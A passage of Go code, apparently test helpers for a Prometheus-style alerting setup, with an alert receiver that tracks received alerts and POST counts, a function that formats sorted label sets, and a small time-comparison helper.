		case <-r.arrived:
		case <-deadline:
			return
		}
	}
}

func (r *alertReceiver) alerts() map[string]receivedAlert {
	r.mu.Lock()
	defer r.mu.Unlock()
	return maps.Clone(r.seen)
}

func (r *alertReceiver) requests() int {
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.posts
}

// labelKey is a label set in Prometheus' text form, names sorted.
func labelKey(labels map[string]string) string {
	var b strings.Builder
	b.WriteByte('{')
	for i, n := range slices.Sorted(maps.Keys(labels)) {
		if i > 0 {
			b.WriteString(", ")
		}
		fmt.Fprintf(&b, "%s=%q", n, labels[n])
	}
	b.WriteByte('}')
	return b.String()
}

func maxTime(a, b time.Time) time.Time {
	if a.After(b) {
		return a
	}
	return b
}
